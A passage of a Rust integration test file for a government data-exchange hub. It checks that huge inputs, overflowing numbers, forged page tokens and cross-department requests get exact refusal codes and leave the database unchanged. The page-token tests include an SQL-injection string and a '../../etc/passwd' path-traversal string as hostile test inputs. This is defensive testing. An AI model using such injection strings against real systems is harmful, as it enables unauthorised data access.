        tally.check(&format!("ValidateRecords with {what}"), &dry, Code::Ok);
        if let Ok(answer) = dry {
            assert_eq!(answer.get_ref().invalid, 1, "{what} is an invalid record");
        }
        let publish = samr_exchange
            .publish(batch(&w.open, what, vec![upsert_bytes(record.clone().into_bytes())]))
            .await;
        let expected = if record.len() > 1024 * 1024 {
            Code::ResourceExhausted
        } else {
            Code::Ok
        };
        tally.check(&format!("Publish of {what}"), &publish, expected);
        if let Ok(answer) = publish {
            let answer = answer.into_inner();
            assert_eq!((answer.accepted, answer.rejected.len()), (0, 1), "{what}");
        }
        let delete = samr_exchange
            .publish(batch(
                &w.open,
                &format!("delete {what}"),
                vec![pb::RecordChange {
                    change: Some(pb::record_change::Change::Delete(record.clone().into_bytes())),
                }],
            ))
            .await;
        tally.check(&format!("Publish of a delete by {what}"), &delete, expected);
        let report = hrss_access
            .report_error(pb::ReportErrorRequest {
                dataset: w.open.clone(),
                sequence: 0,
                key: record.clone().into_bytes(),
                description: "有误".into(),
            })
            .await;
        tally.check(&format!("ReportError keyed by {what}"), &report, Code::InvalidArgument);
    }
    // A record over max_record_bytes (1 MiB) inside a message under the limit (4 MiB).
    let huge = company_named(51, &"名".repeat(400_000));
    tally.check(
        "Publish of a 1.2 MB record",
        &samr_exchange.publish(batch(&w.open, "huge", vec![upsert(&huge)])).await,
        Code::ResourceExhausted,
    );
    tally.assert_all_right("deep and huge JSON");
    assert_eq!(
        w.everything().await,
        before,
        "JSON that was refused changed the database"
    );
    w.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Huge repeated fields

/// 100,000 elements in each repeated field that has a limit, and 100,000 unknown fields: the limit
/// is enforced with its exact status and nothing is stored; unknown fields are skipped.
async fn huge_repeated_fields_are_refused(backend: Backend) {
    let w = World::start(backend).await;
    let before = w.everything().await;
    let mut tally = Tally::default();
    const N: usize = 100_000;
    let many = |prefix: &str| (0..N).map(|i| format!("{prefix}{i}")).collect::<Vec<_>>();

    let mut samr = Directory::new(w.samr.clone());
    let items = pb::EntryContent {
        items: (0..N).map(|i| item(&format!("项{i}"), "字符型", 1)).collect(),
        ..content("企业登记信息", "102001", "摘要")
    };
    tally.check(
        "CreateEntry with 100,000 items",
        &samr.create_entry(create(items)).await,
        Code::InvalidArgument,
    );
    let related = pb::EntryContent {
        related_codes: many("102001/"),
        ..content("企业登记信息", "102001", "摘要")
    };
    tally.check(
        "CreateEntry with 100,000 related codes",
        &samr.create_entry(create(related.clone())).await,
        Code::InvalidArgument,
    );
    tally.check(
        "UpdateEntry with 100,000 related codes",
        &samr.update_entry(update(&w.draft, related)).await,
        Code::InvalidArgument,
    );

    let mut samr_exchange = Exchange::new(w.samr.clone());
    tally.check(
        "CreateDataset with 100,000 key properties",
        &samr_exchange
            .create_dataset(pb::CreateDatasetRequest {
                key: many("k"),
                ..table_dataset(&w.spare, &[])
            })
            .await,
        Code::InvalidArgument,
    );
    tally.check(
        "Publish of 100,000 changes",
        &samr_exchange
            .publish(batch(&w.open, "many", vec![upsert_bytes(b"{}".to_vec()); N]))
            .await,
        Code::ResourceExhausted,
    );
    tally.check(
        "PublishStream of 100,000 changes",
        &first_message(
            samr_exchange
                .publish_stream(tokio_stream::iter(vec![batch(
                    &w.open,
                    "many-stream",
                    vec![upsert_bytes(b"{}".to_vec()); N],
                )]))
                .await,
        )
        .await,
        Code::ResourceExhausted,
    );
    tally.check(
        "ValidateRecords of 100,000 records",
        &Schemas::new(w.samr.clone())
            .validate_records(pb::ValidateRecordsRequest {
                subject: LEGAL_ENTITY.into(),
                records: vec!["{}".into(); N],
                ..Default::default()
            })
            .await,
        Code::ResourceExhausted,
    );

    let mut extra_access = Access::new(w.extra.clone());
    let mut wide = application(&w.cond, &[]);
    wide.fields = many("field");
    if !tally.known_bug("RequestAccess for 100,000 fields") {
        tally.check(
            "RequestAccess for 100,000 fields",
            &extra_access.request_access(request_access(wide)).await,
            Code::InvalidArgument,
        );
    }
    let mut police_access = Access::new(w.police.clone());
    if !tally.known_bug("ApproveRequest of 100,000 fields") {
        tally.check(
            "ApproveRequest of 100,000 fields",
            &police_access
                .approve_request(pb::ApproveRequestRequest {
                    request_id: w.pending.clone(),
                    fields: many("field"),
                    ..approval(&[], &[])
                })
                .await,
            Code::InvalidArgument,
        );
    }
    tally.check(
        "ApproveRequest with 100,000 masks",
        &police_access
            .approve_request(pb::ApproveRequestRequest {
                request_id: w.pending.clone(),
                masks: (0..N).map(|_| mask("name", "name")).collect(),
                ..approval(&[], &[])
            })
            .await,
        Code::InvalidArgument,
    );

    // 100,000 unknown fields (number 99) on a message with none: skipped, as protobuf says.
    let mut unknown = Vec::new();
    for i in 0..N {
        unknown.extend(wire::number(99, i as u64));
    }
    let status = raw_unary(&w.samr, &format!("{DIRECTORY}WhoAmI"), "unknown-fields", &unknown).await;
    tally.check("WhoAmI with 100,000 unknown fields", &Err::<(), _>(status), Code::Ok);
    tally.assert_all_right("huge repeated fields");
    assert_eq!(w.everything().await, before, "a refused request changed the database");
    w.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Negative and overflowing numbers

/// Numbers at and past the ends of their types (u64::MAX sequences and versions, u32::MAX sizes,
/// negative enum values, timestamps past year 9999 and before year 1): each gets its exact status
/// and nothing changes.
async fn overflowing_numbers_are_refused(backend: Backend) {
    let w = World::start(backend).await;
    let before = w.everything().await;
    let mut tally = Tally::default();
    let mut samr = Directory::new(w.samr.clone());
    let mut samr_exchange = Exchange::new(w.samr.clone());
    let mut hrss_exchange = Exchange::new(w.hrss.clone());
    let mut schemas = Schemas::new(w.samr.clone());
    let mut police_access = Access::new(w.police.clone());
    let mut hrss_access = Access::new(w.hrss.clone());
    let mut audit = Audit::new(w.admin.clone());
    let (big64, big32) = (u64::MAX, u32::MAX);
    let near64 = i64::MAX as u64 + 1;

    for size in [big32, 1001, 1_000_000] {
        tally.check(
            &format!("ListDepartments page_size {size}"),
            &samr
                .list_departments(pb::ListDepartmentsRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("SearchEntries page_size {size}"),
            &samr
                .search_entries(pb::SearchEntriesRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListDatasets page_size {size}"),
            &hrss_exchange
                .list_datasets(pb::ListDatasetsRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListSubjects page_size {size}"),
            &schemas
                .list_subjects(pb::ListSubjectsRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListRequests page_size {size}"),
            &hrss_access
                .list_requests(pb::ListRequestsRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListGrants page_size {size}"),
            &hrss_access
                .list_grants(pb::ListGrantsRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListReports page_size {size}"),
            &hrss_access
                .list_reports(pb::ListReportsRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListEvents page_size {size}"),
            &audit
                .list_events(pb::ListEventsRequest {
                    page_size: size,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
    }
    for limit in [big32, 10_001, 1_000_000] {
        tally.check(
            &format!("Fetch limit {limit}"),
            &hrss_exchange.fetch(fetch(&w.open, 0, limit)).await,
            Code::InvalidArgument,
        );
    }

    for version in [big64, near64, i64::MAX as u64] {
        let mut edit = update(&w.draft, content("企业注销信息", "102001", "企业注销登记"));
        edit.expected_version = version;
        tally.check(
            &format!("UpdateEntry expected_version {version}"),
            &samr.update_entry(edit).await,
            Code::Aborted,
        );
        let mut sub = submit(&w.draft);
        sub.expected_version = version;
        tally.check(
            &format!("SubmitEntry expected_version {version}"),
            &samr.submit_entry(sub).await,
            Code::Aborted,
        );
        let mut off = withdraw(&w.draft, "");
        off.expected_version = version;
        tally.check(
            &format!("WithdrawEntry expected_version {version}"),
            &samr.withdraw_entry(off).await,
            Code::Aborted,
        );
        tally.check(
            &format!("GetEntry version {version}"),
            &samr.get_entry(get(&w.draft, version)).await,
            Code::NotFound,
        );
        for after in [version] {
            let page = hrss_exchange.fetch(fetch(&w.open, after, 10)).await;
            tally.check(&format!("Fetch after_sequence {after}"), &page, Code::Ok);
            if let Ok(page) = page {
                assert!(page.get_ref().changes.is_empty(), "nothing follows sequence {after}");
            }
        }
        tally.check(
            &format!("Snapshot as_of_sequence {version}"),
            &first_message(
                hrss_exchange
                    .snapshot(pb::SnapshotRequest {
                        as_of_sequence: version,
                        ..snapshot_as(&w.open, PURPOSE, "")
                    })
                    .await,
            )
            .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("Acknowledge sequence {version}"),
            &hrss_exchange
                .acknowledge(pb::AcknowledgeRequest {
                    dataset: w.open.clone(),
                    consumer: "etl".into(),
                    sequence: version,
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ReportError sequence {version}"),
            &hrss_access
                .report_error(pb::ReportErrorRequest {
                    dataset: w.open.clone(),
                    sequence: version,
                    key: Vec::new(),
                    description: "有误".into(),
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ResolveReport corrected_sequence {version}"),
            &samr_access(&w)
                .resolve_report(pb::ResolveReportRequest {
                    report_id: w.report.clone(),
                    resolution: pb::ReportState::Corrected as i32,
                    reason: String::new(),
                    corrected_sequence: version,
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("StartUpload size {version}"),
            &samr_exchange
                .start_upload(pb::StartUploadRequest {
                    dataset: w.files.clone(),
                    file_name: "huge.bin".into(),
                    size: version,
                    sha256: sha256_hex(b""),
                })
                .await,
            Code::ResourceExhausted,
        );
        let chunk = pb::FileChunk {
            upload_id: w.upload.clone(),
            offset: version,
            data: vec![7; 10],
        };
        tally.check(
            &format!("UploadChunks offset {version}"),
            &samr_exchange.upload_chunks(tokio_stream::iter(vec![chunk])).await,
            Code::FailedPrecondition,
        );
    }
    // A subscription past the end waits for what comes after it: the first message is only the
    // end of the test. Its first answer must not be a refusal.
    let far = hrss_exchange.subscribe(subscribe_as(&w.open, big64, PURPOSE, "")).await;
    tally.check("Subscribe after_sequence u64::MAX", &far, Code::Ok);
    drop(far);

    for version in [big32, 2, 1000] {
        tally.check(
            &format!("GetSchema version {version}"),
            &schemas
                .get_schema(pb::GetSchemaRequest {
                    subject: LEGAL_ENTITY.into(),
                    version,
                    include_deleted: true,
                })
                .await,
            Code::NotFound,
        );
        tally.check(
            &format!("DeleteSchemaVersion version {version}"),
            &Schemas::new(w.admin.clone())
                .delete_schema_version(pb::DeleteSchemaVersionRequest {
                    subject: LEGAL_ENTITY.into(),
                    version,
                    permanent: false,
                })
                .await,
            Code::NotFound,
        );
        tally.check(
            &format!("UpgradeDatasetSchema schema_version {version}"),
            &samr_exchange
                .upgrade_dataset_schema(pb::UpgradeDatasetSchemaRequest {
                    dataset: w.open.clone(),
                    schema_version: version,
                })
                .await,
            Code::NotFound,
        );
        tally.check(
            &format!("CreateDataset schema_version {version}"),
            &samr_exchange
                .create_dataset(pb::CreateDatasetRequest {
                    schema_version: version,
                    ..table_dataset(&w.spare, &["uscc"])
                })
                .await,
            Code::NotFound,
        );
    }

    // Enumerations: negative and unknown numbers.
    for number in [-1, i32::MIN, i32::MAX, 99] {
        let mut share = content("企业登记信息", "102001", "摘要");
        share.share.as_mut().expect("share").share_type = number;
        tally.check(
            &format!("CreateEntry share_type {number}"),
            &samr.create_entry(create(share)).await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("SearchEntries state {number}"),
            &samr
                .search_entries(pb::SearchEntriesRequest {
                    state: number,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListDatasets standing {number}"),
            &hrss_exchange
                .list_datasets(pb::ListDatasetsRequest {
                    standing: number,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("Publish policy {number}"),
            &samr_exchange
                .publish(pb::PublishRequest {
                    policy: number,
                    ..batch(
                        &w.open,
                        &format!("policy {number}"),
                        vec![upsert_bytes(b"not json".to_vec())],
                    )
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListRequests party {number}"),
            &hrss_access
                .list_requests(pb::ListRequestsRequest {
                    party: number,
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ResolveReport resolution {number}"),
            &samr_access(&w)
                .resolve_report(pb::ResolveReportRequest {
                    report_id: w.report.clone(),
                    resolution: number,
                    reason: "理由".into(),
                    corrected_sequence: 0,
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("SetCompatibility mode {number}"),
            &Schemas::new(w.admin.clone())
                .set_compatibility(pb::SetCompatibilityRequest {
                    subject: LEGAL_ENTITY.into(),
                    mode: number,
                })
                .await,
            Code::InvalidArgument,
        );
    }

    // Timestamps outside what a date can be.
    for (what, seconds, nanos) in [
        ("year 292277026596", i64::MAX, 0),
        ("before year 1", i64::MIN, 0),
        ("negative nanoseconds", 1_800_000_000, -1),
        ("two seconds of nanoseconds", 1_800_000_000, 2_000_000_000),
    ] {
        let at = Timestamp { seconds, nanos };
        tally.check(
            &format!("ApproveRequest expires_at {what}"),
            &police_access
                .approve_request(pb::ApproveRequestRequest {
                    request_id: w.pending.clone(),
                    expires_at: Some(at),
                    ..approval(&[], &[])
                })
                .await,
            Code::InvalidArgument,
        );
        tally.check(
            &format!("ListEvents from {what}"),
            &audit
                .list_events(pb::ListEventsRequest {
                    from: Some(at),
                    ..Default::default()
                })
                .await,
            Code::InvalidArgument,
        );
    }
    // A year far away in a date field.
    for date in ["9999999-01-01", "0000-00-00", "2026-02-30", "-2026-01-01"] {
        tally.check(
            &format!("GetRanking from {date}"),
            &Evaluation::new(w.admin.clone())
                .get_ranking(pb::GetRankingRequest {
                    from: date.into(),
                    to: String::new(),
                })
                .await,
            Code::InvalidArgument,
        );
    }
    // Raw varints of 10 bytes (the most a varint may have) and 11 (one too many).
    let get = format!("{DIRECTORY}GetEntry");
    let mut ten = wire::bytes(1, w.draft.as_bytes());
    ten.extend([0x10, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01]);
    tally.check(
        "GetEntry version as a 10-byte varint",
        &Err::<(), _>(raw_unary(&w.samr, &get, "ten", &ten).await),
        Code::NotFound,
    );
    let mut eleven = wire::bytes(1, w.draft.as_bytes());
    eleven.extend([0x10, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01]);
    tally.check(
        "GetEntry version as an 11-byte varint",
        &Err::<(), _>(raw_unary(&w.samr, &get, "eleven", &eleven).await),
        Code::InvalidArgument,
    );
    tally.assert_all_right("overflowing numbers");
    assert_eq!(w.everything().await, before, "a refused number changed the database");
    w.finish().await;
}

fn samr_access(w: &World) -> Access {
    Access::new(w.samr.clone())
}

// ---------------------------------------------------------------------------------------------
// Forged and tampered page tokens

/// base64url without padding, as the hub writes page tokens.
fn base64url(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
        }
    }
    out
}

/// A token as the hub would write it for `listing` after `key`.
fn forged(listing: &str, key: &str) -> String {
    base64url(format!("{listing}\n{key}").as_bytes())
}

/// The listings, as the hub names them inside their tokens.
const LISTINGS: [&str; 8] = [
    "departments",
    "entries",
    "subjects",
    "datasets",
    "requests",
    "grants",
    "reports",
    "audit",
];

/// One page of `listing` after `token`, as a party that may list it.
async fn list(w: &World, listing: &str, token: String) -> Result<(), Status> {
    let page_token = token;
    match listing {
        "departments" => status(
            Directory::new(w.samr.clone())
                .list_departments(pb::ListDepartmentsRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
        "entries" => status(
            Directory::new(w.samr.clone())
                .search_entries(pb::SearchEntriesRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
        "subjects" => status(
            Schemas::new(w.samr.clone())
                .list_subjects(pb::ListSubjectsRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
        "datasets" => status(
            Exchange::new(w.hrss.clone())
                .list_datasets(pb::ListDatasetsRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
        "requests" => status(
            Access::new(w.admin.clone())
                .list_requests(pb::ListRequestsRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
        "grants" => status(
            Access::new(w.admin.clone())
                .list_grants(pb::ListGrantsRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
        "reports" => status(
            Access::new(w.admin.clone())
                .list_reports(pb::ListReportsRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
        _ => status(
            Audit::new(w.admin.clone())
                .list_events(pb::ListEventsRequest {
                    page_token,
                    ..Default::default()
                })
                .await,
        ),
    }
}

/// Page tokens of another listing, tampered, not base64, not UTF-8, or forged with hostile keys:
/// INVALID_ARGUMENT unless the forgery is a well-formed token of the right listing (then it is
/// only a position, and the page after it comes back); nothing changes.
async fn forged_page_tokens_are_refused(backend: Backend) {
    let w = World::start(backend).await;
    let before = w.everything().await;
    let mut tally = Tally::default();
    let invalid = Code::InvalidArgument;
    for listing in LISTINGS {
        // The audit trail's keys are sequence numbers; the catalogue search's are positions
        // "tier origin code" (xinqiao_domain::search); the others' are codes and ids.
        let numeric = listing == "audit";
        let positional = listing == "entries";
        let key_code = |ok: bool| if ok && !positional { Code::Ok } else { invalid };
        let mut cases: Vec<(String, String, Code)> = vec![
            ("not base64".into(), "!!not*base64!!".into(), invalid),
            ("padded base64".into(), format!("{}==", forged(listing, "1")), invalid),
            ("standard base64".into(), "ZW50cmllcwp+/w".into(), invalid),
            ("not UTF-8".into(), base64url(b"\xff\xfe\n\xc0\xaf"), invalid),
            ("no separator".into(), base64url(listing.as_bytes()), invalid),
            ("a NUL key".into(), forged(listing, "\0"), invalid),
            ("a control character key".into(), forged(listing, "a\x1bb"), invalid),
            (
                "a listing with a NUL".into(),
                forged(&format!("{listing}\0"), "1"),
                invalid,
            ),
            ("an empty key".into(), forged(listing, ""), key_code(!numeric)),
            (
                "an SQL key".into(),
                forged(listing, "' OR '1'='1' --"),
                key_code(!numeric),
            ),
            (
                "a path key".into(),
                forged(listing, "../../etc/passwd"),
                key_code(!numeric),
            ),
            (
                "a 30,000-character key".into(),
                forged(listing, &"長".repeat(30_000)),
                key_code(!numeric),
            ),
            ("an emoji key".into(), forged(listing, "🏛️"), key_code(!numeric)),
            ("key 0".into(), forged(listing, "0"), key_code(true)),
            ("key -1".into(), forged(listing, "-1"), key_code(!numeric)),
            (
                "key u64::MAX".into(),
                forged(listing, &u64::MAX.to_string()),
                key_code(true),
            ),
            (
                "key past u64".into(),
                forged(listing, "99999999999999999999"),
                key_code(!numeric),
            ),
        ];
        if positional {
            // A well-formed position continues after whatever code it names.
            for (what, key) in [
                ("an SQL code", "0  '--".to_string()),
                ("a path code", "1  ../../etc/passwd".to_string()),
                ("a 30,000-character code", format!("1  {}", "長".repeat(30_000))),
                ("an emoji origin", "0 🏛️ 102/000001".to_string()),
                ("tier 2", "2  102/000001".to_string()),
            ] {
                let expected = if what == "tier 2" { invalid } else { Code::Ok };
                cases.push((format!("a position with {what}"), forged(listing, &key), expected));
            }
        }
        // Tampered: a good token with its first character changed, and cut short.
        let good = forged(listing, "1");
        let mut tampered = good.clone().into_bytes();
        tampered[0] = if tampered[0] == b'A' { b'B' } else { b'A' };
        cases.push((
            "a tampered token".into(),
            String::from_utf8(tampered).expect("ASCII"),
            invalid,
        ));
        cases.push(("a token cut short".into(), good[..4].to_string(), invalid));
        for other in LISTINGS.iter().filter(|l| **l != listing) {
            cases.push((format!("a token of {other}"), forged(other, "1"), invalid));
        }
        for (what, token, expected) in cases {
            let result = list(&w, listing, token).await;
            tally.check(&format!("{listing} after {what}"), &result, expected);
        }
    }
    // A position past every sequence number lists nothing (not everything from the start).
    let past = Audit::new(w.admin.clone())
        .list_events(pb::ListEventsRequest {
            page_token: forged("audit", &u64::MAX.to_string()),
            ..Default::default()
        })
        .await;
    assert_eq!(ok(past).events.len(), 0, "nothing follows sequence u64::MAX");
    tally.assert_all_right("forged page tokens");
    assert_eq!(w.everything().await, before, "a page token changed the database");
    w.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Other departments' ids and resources

/// A department naming what belongs to another: another's grant, request, report, upload,
/// consumer, dataset, entry, subject or scorecard. It gets exactly the refusal the rules give
/// (NOT_FOUND where it may not even learn the thing exists), and nothing changes.
async fn other_departments_resources_are_refused(backend: Backend) {
    let w = World::start(backend).await;
    let before = w.everything().await;
    let mut tally = Tally::default();
    let denied = Code::PermissionDenied;
    let not_found = Code::NotFound;
    let mut extra_exchange = Exchange::new(w.extra.clone());
    let mut hrss_exchange = Exchange::new(w.hrss.clone());
    let mut samr_exchange = Exchange::new(w.samr.clone());
    let mut extra_access = Access::new(w.extra.clone());
    let mut hrss_access = Access::new(w.hrss.clone());
    let mut samr_access = Access::new(w.samr.clone());
    let mut police_access = Access::new(w.police.clone());
    let mut police = Directory::new(w.police.clone());
    let mut samr = Directory::new(w.samr.clone());
    let mut samr_schemas = Schemas::new(w.samr.clone());
    let mut police_schemas = Schemas::new(w.police.clone());

    // Reading a conditional dataset under another department's grant, or under none.
    tally.check(
        "Fetch under HRSS's grant",
        &extra_exchange.fetch(fetch_as(&w.cond, 0, 10, PURPOSE, &w.grant)).await,
        denied,
    );
    tally.check(
        "Snapshot under HRSS's grant",
        &first_message(extra_exchange.snapshot(snapshot_as(&w.cond, PURPOSE, &w.grant)).await).await,
        denied,
    );
    tally.check(
        "Subscribe under HRSS's grant",
        &first_message(
            extra_exchange
                .subscribe(subscribe_as(&w.cond, 0, PURPOSE, &w.grant))
                .await,
        )
        .await,
        denied,
    );
    tally.check(
        "Fetch with no grant",
        &samr_exchange.fetch(fetch_as(&w.cond, 0, 10, PURPOSE, "")).await,
        denied,
    );
    tally.check(
        "GetConsumer on a dataset it may not read",
        &extra_exchange
            .get_consumer(pb::GetConsumerRequest {
                dataset: w.cond.clone(),
                consumer: "etl".into(),
            })
            .await,
        denied,
    );
    tally.check(
        "Acknowledge on a dataset it may not read",
        &extra_exchange
            .acknowledge(pb::AcknowledgeRequest {
                dataset: w.cond.clone(),
                consumer: "etl".into(),
                sequence: 1,
            })
            .await,
        denied,
    );
    tally.check(
        "GetConsumer of HRSS's consumer name",
        &extra_exchange
            .get_consumer(pb::GetConsumerRequest {
                dataset: w.open.clone(),
                consumer: "etl".into(),
            })
            .await,
        not_found,
    );

    // Another department's grant, request and report.
    tally.check(
        "GetGrant of HRSS's grant",
        &extra_access.get_grant(get_grant(&w.grant)).await,
        not_found,
    );
    tally.check(
        "RevokeGrant of a grant on POLICE's dataset",
        &samr_access.revoke_grant(revoke_grant(&w.grant, "越权收回")).await,
        not_found,
    );
    tally.check(
        "RevokeGrant by the grantee",
        &hrss_access.revoke_grant(revoke_grant(&w.grant, "自行收回")).await,
        denied,
    );
    tally.check(
        "GetRequest of SAMR's request",
        &extra_access.get_request(get_request(&w.pending)).await,
        not_found,
    );
    tally.check(
        "ApproveRequest of a request to POLICE",
        &hrss_access
            .approve_request(pb::ApproveRequestRequest {
                request_id: w.pending.clone(),
                ..approval(&[], &[])
            })
            .await,
        not_found,
    );
    tally.check(
        "ApproveRequest by the applicant",
        &samr_access
            .approve_request(pb::ApproveRequestRequest {
                request_id: w.pending.clone(),
                ..approval(&[], &[])
            })
            .await,
        denied,
    );
    tally.check(
        "RejectRequest of a request to POLICE",
        &hrss_access
            .reject_request(pb::RejectRequestRequest {
                request_id: w.pending.clone(),
                reason: "越权".into(),
            })
            .await,
        not_found,
    );
    tally.check(
        "WithdrawRequest of SAMR's request",
        &police_access
            .withdraw_request(pb::WithdrawRequestRequest {
                request_id: w.pending.clone(),
            })
            .await,
        denied,
    );
    tally.check(
        "GetReport of HRSS's report",
        &extra_access
            .get_report(pb::GetReportRequest {
                report_id: w.report.clone(),
            })
            .await,
        not_found,
    );
    tally.check(
        "ResolveReport of a report on SAMR's dataset",
        &police_access
            .resolve_report(pb::ResolveReportRequest {
                report_id: w.report.clone(),
                resolution: pb::ReportState::Rejected as i32,
                reason: "越权".into(),
                corrected_sequence: 0,
            })
            .await,
        not_found,
    );
    tally.check(
        "ResolveReport by the reporter",
        &hrss_access
            .resolve_report(pb::ResolveReportRequest {
                report_id: w.report.clone(),
                resolution: pb::ReportState::Rejected as i32,
                reason: "自行关闭".into(),
                corrected_sequence: 0,
            })
            .await,
        denied,
    );

    // Writing to another department's datasets and uploads.
    tally.check(
        "Publish to SAMR's dataset",
        &hrss_exchange.publish(companies(&w.open, "intruder", [70])).await,
        denied,
    );
    tally.check(
        "PublishStream to SAMR's dataset",
        &first_message(
            hrss_exchange
                .publish_stream(tokio_stream::iter(vec![companies(&w.open, "intruder", [71])]))
                .await,
        )
        .await,
        denied,
    );
    tally.check(
        "StartUpload to SAMR's file dataset",
        &hrss_exchange
            .start_upload(pb::StartUploadRequest {
                dataset: w.files.clone(),
                file_name: "intruder.txt".into(),
                size: 5,
                sha256: sha256_hex(b"hello"),
            })
            .await,
        denied,
    );
    tally.check(
        "GetUploadStatus of SAMR's upload",
        &hrss_exchange
            .get_upload_status(pb::GetUploadStatusRequest {
                upload_id: w.upload.clone(),
            })
            .await,
        denied,
    );
    let chunk = pb::FileChunk {
        upload_id: w.upload.clone(),
        offset: 10,
        data: vec![0; 90],
    };
    tally.check(
        "UploadChunks to SAMR's upload",
        &hrss_exchange.upload_chunks(tokio_stream::iter(vec![chunk])).await,
        denied,
    );
    tally.check(
        "CreateDataset for SAMR's entry",
        &hrss_exchange.create_dataset(table_dataset(&w.spare, &["uscc"])).await,
        denied,
    );
    tally.check(
        "UpgradeDatasetSchema of SAMR's dataset",
        &hrss_exchange
            .upgrade_dataset_schema(pb::UpgradeDatasetSchemaRequest {
                dataset: w.open.clone(),
                schema_version: 2,
            })
            .await,
        denied,
    );
    tally.check(
        "RequestAccess to its own dataset",
        &Access::new(w.police.clone())
            .request_access(request_access(application(&w.cond, &["name"])))
            .await,
        Code::FailedPrecondition,
    );

    // Another department's catalogue entries and schema bindings.
    tally.check(
        "UpdateEntry of SAMR's published entry",
        &police
            .update_entry(update(&w.spare, content("篡改", "102001", "篡改")))
            .await,
        denied,
    );
    tally.check(
        "UpdateEntry of SAMR's draft",
        &police
            .update_entry(update(&w.draft, content("篡改", "102001", "篡改")))
            .await,
        not_found,
    );
    tally.check(
        "SubmitEntry of SAMR's draft",
        &police.submit_entry(submit(&w.draft)).await,
        not_found,
    );
    tally.check(
        "GetEntry of SAMR's draft",
        &police.get_entry(get(&w.draft, 0)).await,
        not_found,
    );
    tally.check(
        "WithdrawEntry of SAMR's published entry",
        &police.withdraw_entry(withdraw(&w.spare, "越权")).await,
        denied,
    );
    tally.check(
        "PublishEntry by a department",
        &samr.publish_entry(publish(&w.draft)).await,
        denied,
    );
    tally.check(
        "BindEntrySchema of SAMR's entry",
        &police_schemas
            .bind_entry_schema(pb::BindEntrySchemaRequest {
                resource_code: w.spare.clone(),
                subject: LEGAL_ENTITY.into(),
                version: 0,
            })
            .await,
        denied,
    );
    tally.check(
        "GetEntrySchema of SAMR's draft",
        &police_schemas
            .get_entry_schema(pb::GetEntrySchemaRequest {
                resource_code: w.draft.clone(),
            })
            .await,
        not_found,
    );

    // The admin's subjects and the admin's own calls.
    tally.check(
        "RegisterSchema of a new version of the admin's subject",
        &samr_schemas
            .register_schema(pb::RegisterSchemaRequest {
                subject: LEGAL_ENTITY.into(),
                schema_json: r#"{"type":"object"}"#.into(),
            })
            .await,
        denied,
    );
    tally.check(
        "SetCompatibility of the admin's subject",
        &samr_schemas
            .set_compatibility(pb::SetCompatibilityRequest {
                subject: LEGAL_ENTITY.into(),
                mode: pb::CompatibilityMode::None as i32,
            })
            .await,
        denied,
    );
    tally.check(
        "SetCompatibility of the registry default",
        &samr_schemas
            .set_compatibility(pb::SetCompatibilityRequest {
                subject: String::new(),
                mode: pb::CompatibilityMode::None as i32,
            })
            .await,
        denied,
    );
    tally.check(
        "DeleteSchemaVersion of the admin's subject",
        &samr_schemas
            .delete_schema_version(pb::DeleteSchemaVersionRequest {
                subject: LEGAL_ENTITY.into(),
                version: 1,
                permanent: true,
            })
            .await,
        denied,
    );
    tally.check(
        "DeactivateDepartment by a department",
        &samr
            .deactivate_department(pb::DeactivateDepartmentRequest {
                code: POLICE.into(),
                reason: "越权".into(),
            })
            .await,
        denied,
    );
    tally.check(
        "UpdateDepartment of itself",
        &samr
            .update_department(pb::UpdateDepartmentRequest {
                code: SAMR.into(),
                name: "自封".into(),
                division_code: "330100".into(),
                contact: String::new(),
            })
            .await,
        denied,
    );
    tally.check(
        "VerifyChain by a department",
        &Audit::new(w.samr.clone())
            .verify_chain(pb::VerifyChainRequest::default())
            .await,
        denied,
    );
    tally.check(
        "GetScorecard of POLICE",
        &Evaluation::new(w.samr.clone())
            .get_scorecard(pb::GetScorecardRequest {
                department: POLICE.into(),
                ..Default::default()
            })
            .await,
        denied,
    );

